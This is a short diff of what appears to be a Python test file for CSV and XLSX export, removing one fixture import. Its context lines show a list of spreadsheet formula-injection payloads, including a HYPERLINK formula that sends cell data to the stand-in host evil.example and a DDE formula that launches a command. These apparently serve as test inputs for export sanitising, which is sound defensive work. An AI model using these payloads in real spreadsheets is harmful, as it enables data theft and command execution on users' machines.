@@ -12,7 +12,6 @@ import zipfile
 from openpyxl import load_workbook
 from sqlalchemy import text
 
-from tests.support.web_helpers import web_fixture  # noqa: F401  (pytest fixture)
 from workflow.tabular import FORMULA_START, table_csv, table_xlsx
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
